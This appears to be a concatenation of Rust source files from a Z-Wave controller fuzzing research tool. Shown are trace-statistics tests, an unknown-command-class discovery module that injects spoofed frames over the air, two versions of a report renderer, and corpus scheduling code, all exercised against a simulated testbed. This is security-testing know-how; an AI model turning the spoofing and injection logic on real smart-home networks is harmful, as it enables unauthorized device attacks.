        assert_eq!(stats.edges_over_time, vec![(600, 4, 1), (800, 6, 2)]);
        // Outages at 450 and 9000 µs of a 10 ms span: deciles 0 and 8.
        let hist = stats.outage_histogram(10);
        assert_eq!(hist.iter().sum::<u64>(), 2);
        assert_eq!(hist[0], 1);
        assert_eq!(hist[8], 1);
        let text = stats.render("sample");
        assert!(text.contains("0x25: 2 verdict(s), bugs [3,5]"), "{text}");
        assert!(text.contains("outages: 2 total"), "{text}");
        assert!(text.contains("6 cumulative new edges"), "{text}");
    }

    #[test]
    fn histogram_handles_empty_and_degenerate_spans() {
        let stats = TraceStats::default();
        assert_eq!(stats.outage_histogram(10), vec![0; 10]);
        let mut stats = TraceStats::default();
        stats.observe(&Record::Fuzz { at_us: 0, ev: "outage".to_string() });
        // Span 0: the single outage lands in bucket 0, no division by 0.
        assert_eq!(stats.outage_histogram(4)[0], 1);
    }

    #[test]
    fn cross_trial_summary_flags_divergence_and_identity() {
        let meta = TraceMeta {
            device: "D1".to_string(),
            seed: 5,
            config: "full".to_string(),
            impairment: ImpairmentProfile::Clean,
            budget: Duration::from_secs(60),
            scenario: Scenario::None,
        };
        let base = Trace { meta: meta.clone(), events: sample() };
        let twin = base.clone();
        let mut forked = base.clone();
        forked.events[4] = Record::Fuzz { at_us: 451, ev: "outage".to_string() };
        let mut foreign = base.clone();
        foreign.meta.seed = 6;
        let text = cross_trial_summary(&[
            ("a.zct".to_string(), base),
            ("b.zct".to_string(), twin),
            ("c.zct".to_string(), forked),
            ("d.zct".to_string(), foreign),
        ]);
        assert!(text.contains("b.zct: identical"), "{text}");
        assert!(text.contains("c.zct: first divergence at event 4"), "{text}");
        assert!(text.contains("d.zct: different campaign header"), "{text}");
    }
}

//! Phase 2 — unknown properties discovery (Section III-C).
//!
//! Two techniques uncover command classes the controller implements but
//! never advertises:
//!
//! 1. **Leveraging the public specification**: the 122-class registry is
//!    clustered by function; the controller-relevant clusters minus the
//!    listed set yield unlisted candidates, prioritised by command count
//!    ("the more functionalities included, the higher the likelihood of
//!    potential implementation bugs").
//! 2. **Systematic validation testing**: every CMDCL byte from `0x00` to
//!    the upper limit is probed on air; classes that elicit an
//!    application-layer response despite being absent from both the NIF
//!    and the specification are proprietary discoveries (`0x01`, `0x02`).

use std::collections::BTreeSet;

use zwave_protocol::registry::Registry;
use zwave_protocol::{CommandClassId, MacFrame};

use crate::dongle::Dongle;
use crate::passive::ScanReport;
use crate::target::FuzzTarget;

/// Upper CMDCL bound for the validation sweep (the highest id the public
/// specification assigns, `0x9F`, per Section III-C2's "0x00 to the upper
/// limit of the identified CMDCL list").
pub const VALIDATION_SWEEP_END: u8 = 0x9F;

/// Everything the discovery phase learned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiscoveryReport {
    /// NIF-listed classes (from active scanning).
    pub listed: Vec<CommandClassId>,
    /// Specification-inferred unlisted candidates, priority ordered.
    pub unlisted_from_spec: Vec<CommandClassId>,
    /// Proprietary classes confirmed only by validation testing.
    pub proprietary: Vec<CommandClassId>,
    /// Classes that answered the on-air validation probe.
    pub validated: BTreeSet<u8>,
}

impl DiscoveryReport {
    /// Count of unknown (unlisted) classes: Table IV's rightmost column
    /// (28 or 30 on the testbed devices).
    pub fn unknown_count(&self) -> usize {
        self.unlisted_from_spec.len() + self.proprietary.len()
    }

    /// The full fuzzing target set: proprietary discoveries first (highest
    /// risk: undocumented and, as Table III shows, least tested), then the
    /// listed classes, then spec-inferred unlisted candidates — each group
    /// ordered by descending command count per Section III-C1.
    pub fn prioritized_targets(&self) -> Vec<CommandClassId> {
        let reg = Registry::global();
        let by_count = |ids: &[CommandClassId]| -> Vec<CommandClassId> {
            let mut v = ids.to_vec();
            v.sort_by_key(|id| {
                (std::cmp::Reverse(reg.get(*id).map_or(0, |s| s.command_count())), id.0)
            });
            v
        };
        let mut out = self.proprietary.clone();
        out.extend(by_count(&self.listed));
        out.extend(by_count(&self.unlisted_from_spec));
        out
    }
}

/// The unknown-properties discovery engine.
#[derive(Debug)]
pub struct UnknownDiscovery;

impl UnknownDiscovery {
    /// Technique 1: clusters the specification and returns the
    /// controller-relevant classes that are *not* in `listed`, ordered by
    /// descending command count.
    pub fn unlisted_candidates(listed: &[CommandClassId]) -> Vec<CommandClassId> {
        let listed_set: BTreeSet<u8> = listed.iter().map(|c| c.0).collect();
        Registry::global()
            .controller_relevant_by_priority()
            .into_iter()
            .map(|spec| spec.id)
            .filter(|id| !listed_set.contains(&id.0))
            .collect()
    }

    /// Technique 2: the on-air validation sweep. Sends a bare-CMDCL probe
    /// for every class byte in `0x00..=VALIDATION_SWEEP_END` and records
    /// which elicit an application-layer response from the controller.
    pub fn validation_sweep<T: FuzzTarget>(
        target: &mut T,
        dongle: &mut Dongle,
        scan: &ScanReport,
    ) -> BTreeSet<u8> {
        let src = scan.spoof_source();
        let mut validated = BTreeSet::new();
        for cc in 0x00..=VALIDATION_SWEEP_END {
            // Each probe is retransmitted a couple of times so that channel
            // loss cannot silently demote a supported class ("systematic"
            // testing survives an imperfect link).
            for _attempt in 0..5 {
                dongle.flush();
                dongle.inject_apl(scan.home_id, src, scan.controller, vec![cc]);
                target.pump();
                dongle.wait_for_responses();
                target.pump();
                let answered =
                    dongle.drain().iter().filter_map(|f| MacFrame::decode(&f.bytes).ok()).any(
                        |m| m.src() == scan.controller && !m.is_ack() && !m.payload().is_empty(),
                    );
                if answered {
                    validated.insert(cc);
                    break;
                }
            }
        }
        // NOP (0x00) is processed by definition (its response is the MAC
        // ack itself); count it as supported.
        validated.insert(0x00);
        validated
    }

    /// Runs both techniques and assembles the [`DiscoveryReport`].
    pub fn run<T: FuzzTarget>(
        target: &mut T,
        dongle: &mut Dongle,
        scan: &ScanReport,
        listed: Vec<CommandClassId>,
    ) -> DiscoveryReport {
        let unlisted_from_spec = Self::unlisted_candidates(&listed);
        let validated = Self::validation_sweep(target, dongle, scan);

        // Proprietary = validated on air, absent from the specification
        // and from the NIF.
        let spec = Registry::global();
        let listed_set: BTreeSet<u8> = listed.iter().map(|c| c.0).collect();
        let proprietary: Vec<CommandClassId> = validated
            .iter()
            .filter(|&&cc| {
                cc != 0x00 && !spec.contains(CommandClassId(cc)) && !listed_set.contains(&cc)
            })
            .map(|&cc| CommandClassId(cc))
            .collect();

        DiscoveryReport { listed, unlisted_from_spec, proprietary, validated }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::active::ActiveScanner;
    use crate::passive::PassiveScanner;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    fn discover(model: DeviceModel) -> DiscoveryReport {
        let mut tb = Testbed::new(model, 31);
        let mut passive = PassiveScanner::new(tb.medium(), 70.0);
        tb.exchange_normal_traffic();
        let scan = passive.analyze().unwrap();
        let mut dongle = Dongle::attach(tb.medium(), 70.0);
        let active = ActiveScanner::scan(&mut tb, &mut dongle, &scan).unwrap();
        UnknownDiscovery::run(&mut tb, &mut dongle, &scan, active.listed)
    }

    #[test]
    fn spec_clustering_yields_26_unlisted_for_a_17_listed_controller() {
        // Section III-C1: "ZCover inferred 26 unlisted CMDCLs relevant to
        // the controller" beyond the 17 listed.
        let listed = DeviceModel::D4.listed_classes();
        let candidates = UnknownDiscovery::unlisted_candidates(&listed);
        assert_eq!(candidates.len(), 26);
        // Priority order is descending by command count.
        let reg = Registry::global();
        let counts: Vec<usize> =
            candidates.iter().map(|id| reg.get(*id).unwrap().command_count()).collect();
        let mut sorted = counts.clone();
        sorted.sort_unstable_by(|a, b| b.cmp(a));
        assert_eq!(counts, sorted);
    }

    #[test]
    fn validation_testing_uncovers_the_proprietary_pair() {
        let report = discover(DeviceModel::D4);
        assert_eq!(
            report.proprietary,
            vec![CommandClassId::ZWAVE_PROTOCOL, CommandClassId::ZENSOR_NET]
        );
    }

    #[test]
    fn table4_unknown_counts() {
        // 17-listed controllers discover 28 unknown classes; 15-listed
        // discover 30 (Table IV).
        assert_eq!(discover(DeviceModel::D4).unknown_count(), 28);
        assert_eq!(discover(DeviceModel::D5).unknown_count(), 30);
    }

    #[test]
    fn prioritized_targets_cover_45_classes_starting_with_0x01() {
        // Table V: "45 CMDCLs (known and unknown) are prioritized by
        // ZCover"; Algorithm 1's example dequeues 0x01 first.
        let report = discover(DeviceModel::D1);
        let targets = report.prioritized_targets();
        assert_eq!(targets.len(), 45);
        assert_eq!(targets[0], CommandClassId::ZWAVE_PROTOCOL);
        assert_eq!(targets[1], CommandClassId::ZENSOR_NET);
        // No duplicates.
        let set: BTreeSet<u8> = targets.iter().map(|c| c.0).collect();
        assert_eq!(set.len(), 45);
    }

    #[test]
    fn validation_sweep_does_not_trip_any_vulnerability() {
        let mut tb = Testbed::new(DeviceModel::D1, 31);
        let mut passive = PassiveScanner::new(tb.medium(), 70.0);
        tb.exchange_normal_traffic();
        let scan = passive.analyze().unwrap();
        let mut dongle = Dongle::attach(tb.medium(), 70.0);
        let _ = UnknownDiscovery::validation_sweep(&mut tb, &mut dongle, &scan);
        assert!(tb.controller().fault_log().is_empty(), "bare-CMDCL probes must be benign");
    }
}

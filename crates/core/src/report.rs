//! Campaign report rendering: turns a [`ZCoverReport`] into the
//! human-readable assessment document an operator files after a test
//! engagement, and campaign/trial results into machine-readable JSON for
//! `zcover --format json`.

use std::fmt::Write as _;

use crate::buglog::VulnFinding;
use crate::fuzzer::{CampaignCounters, CampaignResult};
use crate::sweep::{ShardSummary, SweepSummary};
use crate::trace::TraceStats;
use crate::trials::TrialSummary;
use crate::ZCoverReport;
use zwave_radio::{MediumStats, SimInstant};

/// Renders a complete markdown assessment report.
pub fn to_markdown(report: &ZCoverReport, target_label: &str) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# ZCover assessment — {target_label}\n");

    let _ = writeln!(out, "## Phase 1 — known properties fingerprinting\n");
    let _ = writeln!(out, "* home id: `{}`", report.scan.home_id);
    let _ = writeln!(out, "* controller node: `{}`", report.scan.controller);
    let slaves: Vec<String> = report.scan.slaves.iter().map(|n| n.to_string()).collect();
    let _ = writeln!(out, "* slave nodes: {}", slaves.join(", "));
    let _ = writeln!(out, "* NIF-listed command classes: {}", report.active.listed.len());
    let _ = writeln!(
        out,
        "* observed traffic: {} frames captured, {:.0} % of application traffic encrypted\n",
        report.scan.frames_captured,
        report.scan.traffic.encrypted_fraction() * 100.0
    );

    let _ = writeln!(out, "## Phase 2 — unknown properties discovery\n");
    let _ = writeln!(
        out,
        "* specification-inferred unlisted classes: {}",
        report.discovery.unlisted_from_spec.len()
    );
    let proprietary: Vec<String> =
        report.discovery.proprietary.iter().map(|c| c.to_string()).collect();
    let _ = writeln!(out, "* proprietary classes (validation testing): {}", proprietary.join(", "));
    let _ = writeln!(
        out,
        "* total prioritized fuzzing targets: {}\n",
        report.discovery.prioritized_targets().len()
    );

    let _ = writeln!(out, "## Phase 3 — position-sensitive fuzzing\n");
    let _ = writeln!(out, "* packets injected: {}", report.campaign.packets_sent);
    let _ = writeln!(out, "* virtual duration: {:.0} s", report.campaign.duration().as_secs_f64());
    let _ = writeln!(out, "* CMDCL coverage: {}", report.campaign.cmdcl_coverage.len());
    let _ = writeln!(out, "* unique vulnerabilities: {}\n", report.campaign.unique_vulns());

    if report.campaign.findings.is_empty() {
        let _ = writeln!(out, "No vulnerabilities were found within the budget.");
    } else {
        let _ = writeln!(
            out,
            "| bug | CMDCL | CMD | effect | duration | root cause | found at | trigger |"
        );
        let _ = writeln!(out, "|---|---|---|---|---|---|---|---|");
        for f in &report.campaign.findings {
            let trigger: Vec<String> = f.trigger.iter().map(|b| format!("{b:02X}")).collect();
            let _ = writeln!(
                out,
                "| #{:02} | 0x{:02X} | 0x{:02X} | {} | {} | {} | {:.0} s | `{}` |",
                f.bug_id,
                f.cmdcl,
                f.cmd,
                f.effect,
                f.duration_label(),
                f.root_cause,
                f.found_at.duration_since(report.campaign.started).as_secs_f64(),
                trigger.join(" ")
            );
        }
    }
    out
}

/// Escapes a string for embedding in a JSON value.
fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

fn counters_json(c: &CampaignCounters) -> String {
    let filings: Vec<String> = c.sched_level_filings.iter().map(u64::to_string).collect();
    format!(
        "{{\"packets_sent\":{},\"plans_executed\":{},\"outages_observed\":{},\"findings\":{},\
         \"losses\":{},\"duplicates\":{},\"reorders\":{},\"truncations\":{},\
         \"blackout_drops\":{},\"retransmissions\":{},\"ack_timeouts\":{},\
         \"edges_seen\":{},\"corpus_size\":{},\"retained_inputs\":{},\
         \"attack_frames\":{},\"attack_verdicts\":{},\"sched_peak_pending\":{},\
         \"sched_cancelled\":{},\"sched_level_filings\":[{}]}}",
        c.packets_sent,
        c.plans_executed,
        c.outages_observed,
        c.findings,
        c.losses,
        c.duplicates,
        c.reorders,
        c.truncations,
        c.blackout_drops,
        c.retransmissions,
        c.ack_timeouts,
        c.edges_seen,
        c.corpus_size,
        c.retained_inputs,
        c.attack_frames,
        c.attack_verdicts,
        c.sched_peak_pending,
        c.sched_cancelled,
        filings.join(",")
    )
}

fn finding_json(f: &VulnFinding, started: SimInstant) -> String {
    let trigger: Vec<String> = f.trigger.iter().map(|b| format!("{b:02X}")).collect();
    format!(
        "{{\"bug_id\":{},\"cmdcl\":{},\"cmd\":{},\"effect\":\"{}\",\"root_cause\":\"{}\",\
         \"duration\":\"{}\",\"found_at_s\":{:.3},\"found_after_packets\":{},\"trigger\":\"{}\"}}",
        f.bug_id,
        f.cmdcl,
        f.cmd,
        json_escape(&f.effect.to_string()),
        json_escape(&f.root_cause.to_string()),
        json_escape(&f.duration_label()),
        f.found_at.duration_since(started).as_secs_f64(),
        f.found_after_packets,
        trigger.join(" ")
    )
}

/// Renders one campaign result as a single JSON object (`zcover fuzz
/// --format json`). All keys are emitted in a fixed order so the output
/// is byte-stable for a given campaign.
pub fn campaign_to_json(result: &CampaignResult) -> String {
    let findings: Vec<String> =
        result.findings.iter().map(|f| finding_json(f, result.started)).collect();
    format!(
        "{{\"packets_sent\":{},\"virtual_duration_s\":{:.3},\"cmdcl_coverage\":{},\
         \"cmd_coverage\":{},\"unique_vulns\":{},\"mode\":\"{}\",\"scenario\":\"{}\",\
         \"counters\":{},\"findings\":[{}]}}",
        result.packets_sent,
        result.duration().as_secs_f64(),
        result.cmdcl_coverage.len(),
        result.cmd_coverage.len(),
        result.unique_vulns(),
        result.mode,
        result.scenario,
        counters_json(&result.counters),
        findings.join(",")
    )
}

/// Renders a multi-trial summary as JSON (`zcover trials --format json`):
/// one object per trial under `"trials"` plus the merged aggregate under
/// `"merged"`.
pub fn summary_to_json(summary: &TrialSummary) -> String {
    let trials: Vec<String> = summary.per_trial.iter().map(campaign_to_json).collect();
    let union: Vec<String> = summary.union_bug_ids.iter().map(u8::to_string).collect();
    let core: Vec<String> = summary.found_in_all_trials().iter().map(u8::to_string).collect();
    let hits: Vec<String> =
        summary.hit_counts.iter().map(|(bug, hits)| format!("\"{bug}\":{hits}")).collect();
    let times: Vec<String> = summary
        .hit_counts
        .keys()
        .filter_map(|bug| {
            summary.mean_time_to_find(*bug).map(|d| format!("\"{bug}\":{:.3}", d.as_secs_f64()))
        })
        .collect();
    format!(
        "{{\"trials\":[{}],\"merged\":{{\"union_bug_ids\":[{}],\"stable_core\":[{}],\
         \"mean_packets\":{:.1},\"mean_unique_vulns\":{:.2},\"hit_counts\":{{{}}},\
         \"mean_time_to_find_s\":{{{}}},\"counters\":{}}}}}",
        trials.join(","),
        union.join(","),
        core.join(","),
        summary.mean_packets,
        summary.mean_unique_vulns(),
        hits.join(","),
        times.join(","),
        counters_json(&summary.counters)
    )
}

fn channel_json(s: &MediumStats) -> String {
    format!(
        "{{\"frames_sent\":{},\"deliveries\":{},\"losses\":{},\"corruptions\":{},\
         \"duplicates\":{},\"reorders\":{},\"truncations\":{},\"blackout_drops\":{},\
         \"rx_overflows\":{}}}",
        s.frames_sent,
        s.deliveries,
        s.losses,
        s.corruptions,
        s.duplicates,
        s.reorders,
        s.truncations,
        s.blackout_drops,
        s.rx_overflows
    )
}

fn shard_json(shard: &ShardSummary) -> String {
    let bugs: Vec<String> = shard.bug_ids().iter().map(u8::to_string).collect();
    format!(
        "{{\"shard\":{},\"first_home\":{},\"homes\":{},\"bug_ids\":[{}],\
         \"coverage_edges\":{},\"counters\":{},\"channel\":{}}}",
        shard.shard,
        shard.first_home,
        shard.homes,
        bugs.join(","),
        shard.coverage.edges(),
        counters_json(&shard.counters),
        channel_json(&shard.channel)
    )
}

/// Renders a sweep summary as JSON (`zcover sweep --format json`): the
/// city-wide aggregate plus one object per shard. Every key is emitted in
/// a fixed order and nothing here depends on wall-clock time or worker
/// count, so the output is byte-stable for a given sweep configuration
/// (throughput goes to stderr, not into this document).
pub fn sweep_to_json(summary: &SweepSummary) -> String {
    let union: Vec<String> = summary.union_bug_ids().iter().map(u8::to_string).collect();
    let hits: Vec<String> =
        summary.hit_counts.iter().map(|(bug, homes)| format!("\"{bug}\":{homes}")).collect();
    let shards: Vec<String> = summary.shards.iter().map(shard_json).collect();
    format!(
        "{{\"homes\":{},\"topology\":\"{}\",\"shard_size\":{},\"mode\":\"{}\",\
         \"scenario\":\"{}\",\"impairment\":\"{}\",\"union_bug_ids\":[{}],\
         \"hit_counts\":{{{}}},\"coverage_edges\":{},\"counters\":{},\"channel\":{},\
         \"shards\":[{}]}}",
        summary.homes,
        summary.topology,
        summary.shard_size,
        summary.mode,
        summary.scenario,
        summary.impairment,
        union.join(","),
        hits.join(","),
        summary.coverage_edges,
        counters_json(&summary.counters),
        channel_json(&summary.channel),
        shards.join(",")
    )
}

/// Renders one trace's streaming analytics as JSON (`zcover trace stats
/// --format json`): event-shape counts, the outage decile histogram,
/// per-CMDCL oracle latencies, and the corpus edges-over-time trajectory.
pub fn trace_stats_to_json(stats: &TraceStats, label: &str) -> String {
    let fuzz: Vec<String> =
        stats.fuzz.iter().map(|(ev, count)| format!("\"{ev}\":{count}")).collect();
    let hist: Vec<String> = stats.outage_histogram(10).iter().map(u64::to_string).collect();
    let per_cmdcl: Vec<String> = stats
        .per_cmdcl
        .iter()
        .map(|(cmdcl, c)| {
            let bugs: Vec<String> = c.bugs.iter().map(u64::to_string).collect();
            format!(
                "\"{cmdcl}\":{{\"findings\":{},\"bugs\":[{}],\"first_at_us\":{}}}",
                c.findings,
                bugs.join(","),
                c.first_at_us
            )
        })
        .collect();
    let edges: Vec<String> = stats
        .edges_over_time
        .iter()
        .map(|(at_us, edges, size)| format!("[{at_us},{edges},{size}]"))
        .collect();
    let end = match stats.end {
        None => "null".to_string(),
        Some((at_us, packets, findings, sched_events)) => format!(
            "{{\"at_us\":{at_us},\"packets\":{packets},\"findings\":{findings},\
             \"sched_events\":{sched_events}}}"
        ),
    };
    format!(
        "{{\"trace\":\"{label}\",\"events\":{},\"sched_frames\":{},\"sched_timers\":{},\
         \"timers_scheduled\":{},\"timers_unfired\":{},\
         \"sched_blackouts\":{},\"attack_frames\":{},\"raw_events\":{},\"span_us\":{},\
         \"fuzz\":{{{}}},\"outage_histogram\":[{}],\"per_cmdcl\":{{{}}},\
         \"edges_over_time\":[{}],\"end\":{}}}",
        stats.events,
        stats.sched_frames,
        stats.sched_timers,
        stats.timers_scheduled,
        stats.timers_unfired(),
        stats.sched_blackouts,
        stats.attack_frames,
        stats.raw_events,
        stats.span_us,
        fuzz.join(","),
        hist.join(","),
        per_cmdcl.join(","),
        edges.join(","),
        end
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FuzzConfig, ZCover};
    use std::time::Duration;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    /// A stack-based structural check that `s` is one balanced JSON value
    /// (braces/brackets match, quotes close) — enough to catch escaping
    /// and comma mistakes without a full parser.
    fn assert_balanced_json(s: &str) {
        let mut stack = Vec::new();
        let mut in_string = false;
        let mut escaped = false;
        for ch in s.chars() {
            if in_string {
                match (escaped, ch) {
                    (true, _) => escaped = false,
                    (false, '\\') => escaped = true,
                    (false, '"') => in_string = false,
                    _ => {}
                }
                continue;
            }
            match ch {
                '"' => in_string = true,
                '{' | '[' => stack.push(ch),
                '}' => assert_eq!(stack.pop(), Some('{'), "unbalanced brace in {s}"),
                ']' => assert_eq!(stack.pop(), Some('['), "unbalanced bracket in {s}"),
                _ => {}
            }
        }
        assert!(!in_string, "unterminated string in {s}");
        assert!(stack.is_empty(), "unclosed scopes in {s}");
    }

    #[test]
    fn json_escape_handles_quotes_and_control_characters() {
        assert_eq!(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
        assert_eq!(json_escape("\u{1}"), "\\u0001");
    }

    #[test]
    fn campaign_json_is_balanced_and_lists_every_finding() {
        let mut tb = Testbed::new(DeviceModel::D1, 3);
        let mut zc = ZCover::attach(&tb, 70.0);
        let report =
            zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(900), 3)).unwrap();
        let json = campaign_to_json(&report.campaign);
        assert_balanced_json(&json);
        assert!(json.starts_with("{\"packets_sent\":"));
        assert_eq!(
            json.matches("\"bug_id\":").count(),
            report.campaign.unique_vulns(),
            "one finding object per unique vulnerability"
        );
        assert!(json.contains("\"counters\":{\"packets_sent\":"));
    }

    #[test]
    fn summary_json_nests_per_trial_objects_and_merged_aggregate() {
        let config = FuzzConfig::full(Duration::from_secs(900), 0);
        let summary =
            crate::trials::run_trials(2, 7, |seed| Testbed::new(DeviceModel::D1, seed), &config)
                .unwrap();
        let json = summary_to_json(&summary);
        assert_balanced_json(&json);
        assert_eq!(json.matches("\"virtual_duration_s\":").count(), 2, "one object per trial");
        assert!(json.contains("\"merged\":{\"union_bug_ids\":["));
        assert!(json.contains("\"stable_core\":["));
        assert!(json.contains("\"mean_time_to_find_s\":{"));
    }

    #[test]
    fn sweep_json_is_balanced_and_lists_every_shard() {
        let config = crate::sweep::SweepConfig::new(
            3,
            zwave_controller::Topology::Line,
            FuzzConfig::full(Duration::from_secs(45), 5),
        )
        .with_shard_size(2);
        let (summary, _) =
            crate::sweep::run_sweep(&crate::executor::CampaignExecutor::new(1), &config).unwrap();
        let json = sweep_to_json(&summary);
        assert_balanced_json(&json);
        assert!(json.starts_with("{\"homes\":3,\"topology\":\"line\","));
        assert_eq!(json.matches("\"shard\":").count(), 2, "one object per shard");
        assert!(json.contains("\"channel\":{\"frames_sent\":"));
        // The routed-path bug is visible in the hit counts on a line mesh.
        assert!(json.contains("\"19\":3"));
    }

    #[test]
    fn report_renders_every_section_and_finding() {
        let mut tb = Testbed::new(DeviceModel::D1, 3);
        let mut zc = ZCover::attach(&tb, 70.0);
        let report =
            zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(900), 3)).unwrap();
        let md = to_markdown(&report, "ZooZ ZST10 (D1)");
        assert!(md.contains("# ZCover assessment — ZooZ ZST10 (D1)"));
        assert!(md.contains("`E7DE3F3D`"));
        assert!(md.contains("Phase 2"));
        assert!(md.contains("0x01, 0x02"));
        assert!(md.contains("| #0"));
        // One table row per finding.
        let rows = md.lines().filter(|l| l.starts_with("| #")).count();
        assert_eq!(rows, report.campaign.unique_vulns());
    }

    #[test]
    fn empty_campaign_renders_cleanly() {
        let mut tb = Testbed::new(DeviceModel::D1, 4);
        tb.controller_mut().apply_patches(&(1..=15).collect::<Vec<u8>>());
        let mut zc = ZCover::attach(&tb, 70.0);
        let report =
            zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(600), 4)).unwrap();
        let md = to_markdown(&report, "patched D1");
        assert!(md.contains("No vulnerabilities were found"));
    }
}

//! Campaign report rendering: turns a [`ZCoverReport`] into the
//! human-readable assessment document an operator files after a test
//! engagement.

use std::fmt::Write as _;

use crate::ZCoverReport;

/// Renders a complete markdown assessment report.
pub fn to_markdown(report: &ZCoverReport, target_label: &str) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# ZCover assessment — {target_label}\n");

    let _ = writeln!(out, "## Phase 1 — known properties fingerprinting\n");
    let _ = writeln!(out, "* home id: `{}`", report.scan.home_id);
    let _ = writeln!(out, "* controller node: `{}`", report.scan.controller);
    let slaves: Vec<String> = report.scan.slaves.iter().map(|n| n.to_string()).collect();
    let _ = writeln!(out, "* slave nodes: {}", slaves.join(", "));
    let _ = writeln!(out, "* NIF-listed command classes: {}", report.active.listed.len());
    let _ = writeln!(
        out,
        "* observed traffic: {} frames captured, {:.0} % of application traffic encrypted\n",
        report.scan.frames_captured,
        report.scan.traffic.encrypted_fraction() * 100.0
    );

    let _ = writeln!(out, "## Phase 2 — unknown properties discovery\n");
    let _ = writeln!(
        out,
        "* specification-inferred unlisted classes: {}",
        report.discovery.unlisted_from_spec.len()
    );
    let proprietary: Vec<String> =
        report.discovery.proprietary.iter().map(|c| c.to_string()).collect();
    let _ = writeln!(out, "* proprietary classes (validation testing): {}", proprietary.join(", "));
    let _ = writeln!(
        out,
        "* total prioritized fuzzing targets: {}\n",
        report.discovery.prioritized_targets().len()
    );

    let _ = writeln!(out, "## Phase 3 — position-sensitive fuzzing\n");
    let _ = writeln!(out, "* packets injected: {}", report.campaign.packets_sent);
    let _ = writeln!(out, "* virtual duration: {:.0} s", report.campaign.duration().as_secs_f64());
    let _ = writeln!(out, "* CMDCL coverage: {}", report.campaign.cmdcl_coverage.len());
    let _ = writeln!(out, "* unique vulnerabilities: {}\n", report.campaign.unique_vulns());

    if report.campaign.findings.is_empty() {
        let _ = writeln!(out, "No vulnerabilities were found within the budget.");
    } else {
        let _ = writeln!(
            out,
            "| bug | CMDCL | CMD | effect | duration | root cause | found at | trigger |"
        );
        let _ = writeln!(out, "|---|---|---|---|---|---|---|---|");
        for f in &report.campaign.findings {
            let trigger: Vec<String> = f.trigger.iter().map(|b| format!("{b:02X}")).collect();
            let _ = writeln!(
                out,
                "| #{:02} | 0x{:02X} | 0x{:02X} | {} | {} | {} | {:.0} s | `{}` |",
                f.bug_id,
                f.cmdcl,
                f.cmd,
                f.effect,
                f.duration_label(),
                f.root_cause,
                f.found_at.duration_since(report.campaign.started).as_secs_f64(),
                trigger.join(" ")
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FuzzConfig, ZCover};
    use std::time::Duration;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn report_renders_every_section_and_finding() {
        let mut tb = Testbed::new(DeviceModel::D1, 3);
        let mut zc = ZCover::attach(&tb, 70.0);
        let report =
            zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(900), 3)).unwrap();
        let md = to_markdown(&report, "ZooZ ZST10 (D1)");
        assert!(md.contains("# ZCover assessment — ZooZ ZST10 (D1)"));
        assert!(md.contains("`E7DE3F3D`"));
        assert!(md.contains("Phase 2"));
        assert!(md.contains("0x01, 0x02"));
        assert!(md.contains("| #0"));
        // One table row per finding.
        let rows = md.lines().filter(|l| l.starts_with("| #")).count();
        assert_eq!(rows, report.campaign.unique_vulns());
    }

    #[test]
    fn empty_campaign_renders_cleanly() {
        let mut tb = Testbed::new(DeviceModel::D1, 4);
        tb.controller_mut().apply_patches(&(1..=15).collect::<Vec<u8>>());
        let mut zc = ZCover::attach(&tb, 70.0);
        let report =
            zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(600), 4)).unwrap();
        let md = to_markdown(&report, "patched D1");
        assert!(md.contains("No vulnerabilities were found"));
    }
}

//! Corpus and power-schedule machinery for the coverage-guided mode.
//!
//! The corpus holds every injected payload that lit a new APL dispatch
//! edge (see [`zwave_controller::CoverageMap`]). A splitmix64-derived
//! [`PowerSchedule`] picks the next entry to mutate, weighting entries by
//! their energy — how many new edges they discovered, boosted each time a
//! mutation of theirs finds more. Both structures are plain deterministic
//! state owned by one trial, so coverage campaigns stay bit-identical
//! across executor worker counts, exactly like the PR 1 counters.

/// One retained input: a payload that discovered at least one new edge.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusEntry {
    /// The encoded APL payload as injected.
    pub payload: Vec<u8>,
    /// Distinct new edges this payload lit when first injected.
    pub new_edges: u64,
    /// Campaign packet count at retention time.
    pub retained_at_packets: u64,
    /// Scheduling weight: starts at `new_edges`, boosted when mutations
    /// of this entry discover further edges.
    pub energy: u64,
}

/// The set of interesting inputs, in retention order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Corpus {
    entries: Vec<CorpusEntry>,
}

impl Corpus {
    /// An empty corpus.
    pub fn new() -> Self {
        Corpus::default()
    }

    /// Retains a payload that discovered `new_edges` edges.
    pub fn retain(&mut self, payload: Vec<u8>, new_edges: u64, retained_at_packets: u64) {
        debug_assert!(new_edges > 0, "retention requires new coverage");
        self.entries.push(CorpusEntry {
            payload,
            new_edges,
            retained_at_packets,
            energy: new_edges.max(1),
        })
    }

    /// Adds `amount` energy to entry `index` (its mutations keep paying).
    pub fn boost(&mut self, index: usize, amount: u64) {
        if let Some(e) = self.entries.get_mut(index) {
            e.energy += amount;
        }
    }

    /// The retained entries, oldest first.
    pub fn entries(&self) -> &[CorpusEntry] {
        &self.entries
    }

    /// Number of retained entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether nothing has been retained yet.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Consumes the corpus into its entry list (for the campaign result).
    pub fn into_entries(self) -> Vec<CorpusEntry> {
        self.entries
    }

    /// Energy-weighted selection: walks the entries until the cumulative
